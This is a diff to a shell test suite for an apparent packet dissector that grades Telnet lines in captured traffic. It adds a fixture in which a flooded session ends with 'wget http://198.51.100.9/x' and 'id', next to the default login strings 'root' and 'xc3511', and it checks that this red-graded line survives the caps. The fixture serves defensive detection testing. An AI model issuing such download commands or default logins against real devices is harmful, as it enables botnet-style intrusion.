@@ -114,6 +114,7 @@ c "root\r\n"
 c "xc3511\r\n"
 c "a\r\n"*100 @f_frame
 c "a\r\n"*40000 @f_conv
+c "a\r\n"*100 "wget http://198.51.100.9/x\r\n" "id\r\n" @f_red
 close
 EOF
 hs_table keys "${F[@]}" _ws.expert.message
@@ -134,15 +135,24 @@ hs_eq "cap per frame: 64 lines kept" \
 hs_eq "cap per frame: the rest counted" \
     "$(hs_get keys f_frame _ws.expert.message | grep -o '36 Telnet lines[^;]*; highest grade among them: yellow')" \
     "36 Telnet lines (logins, commands, environment values) not kept (limit of 64 per frame); highest grade among them: yellow"
-# The conversation's items: its user and password, and every graded line from f_frame on.
-hs_eq "cap per conversation: 4096 items kept" \
-    "$(awk -F'\t' -v from="$(hs_frame keys f_frame)" 'NR > 1 && $1 >= from - 2 {
-        n += ($2 != "") + ($3 != "") + ($4 == "" ? 0 : split($4, a, "^")) } END { print n }' "$HS_TMP/keys.tsv")" "4096"
-# 2 + 64 items before f_conv, 64 in each of its first 62 segments: the cap
-# is reached in the 63rd, and every later segment says so too.
+# The conversation's graded lines from f_frame on (its user and password
+# have a budget of their own), up to f_conv: all yellow.
+hs_eq "cap per conversation: 4096 yellow items kept" \
+    "$(awk -F'\t' -v from="$(hs_frame keys f_frame)" -v to="$(hs_frame keys f_conv)" \
+        'NR > 1 && $1 >= from && $1 <= to { n += ($4 == "" ? 0 : split($4, a, "^")) } END { print n }' \
+        "$HS_TMP/keys.tsv")" "4096"
+# 64 yellow items in f_frame and in each of f_conv's first 63 segments: the
+# cap is reached in the 63rd (whose 65th line meets both caps), and every
+# later segment says so too.
 hs_eq "cap per conversation: expert info, Undecoded" \
-    "$(hs_count keys "_ws.expert.message contains \"4096 per conversation\" && _ws.expert.group == $UNDECODED")" \
+    "$(hs_count keys "frame.number <= $(hs_frame keys f_conv) && _ws.expert.message contains \"4096 per conversation\" && _ws.expert.group == $UNDECODED")" \
     "$(($(hs_frame keys f_conv) - $(hs_frame keys f_frame) - 62))"
+# Harmless lines past both caps do not push red and green ones out: each
+# grade has its own budget.
+hs_eq "caps per grade: a red line after a flood of yellow ones is kept" \
+    "$(hs_get keys f_red shellshock.url)" "http://198.51.100.9/x"
+hs_eq "caps per grade: and a green one" \
+    "$(hs_get keys f_red shellshock.grade | tr '^' '\n' | sort -u | tr '\n' ' ')" "1 3 "
 
 # Two-pass dissection (as the GUI redissects) gives the same fields.
 hs_tshark -2 -r "$HS_TMP/telnet.pcap" -T fields -E "aggregator=$HS_AGG" -E occurrence=a \
